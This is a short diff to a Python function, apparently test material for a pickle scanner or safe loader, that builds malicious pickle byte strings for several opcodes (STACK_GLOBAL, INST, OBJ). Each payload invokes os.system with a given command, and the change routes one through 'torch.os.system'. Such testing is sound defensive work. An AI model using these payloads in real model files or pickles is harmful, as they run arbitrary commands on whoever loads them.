@@ -214,7 +214,7 @@ def attacks(command: str) -> dict[str, bytes]:
         "STACK_GLOBAL": b"\x80\x04" + stacked + cmd + b"\x85R.",
         "STACK_GLOBAL from the memo": b"\x80\x04" + short("system") + b"\x940" + short("os") + b"h\0\x93" + cmd
         + b"\x85R.",
-        "STACK_GLOBAL with dots": b"\x80\x04" + short("ultralytics.nn.tasks") + short("contextlib.os.system") + b"\x93"
+        "STACK_GLOBAL with dots": b"\x80\x04" + short("ultralytics.nn.tasks") + short("torch.os.system") + b"\x93"
         + cmd + b"\x85R.",
         "INST": b"(" + cmd + b"ios\nsystem\n.",
         "OBJ": b"(" + named + cmd + b"o.",
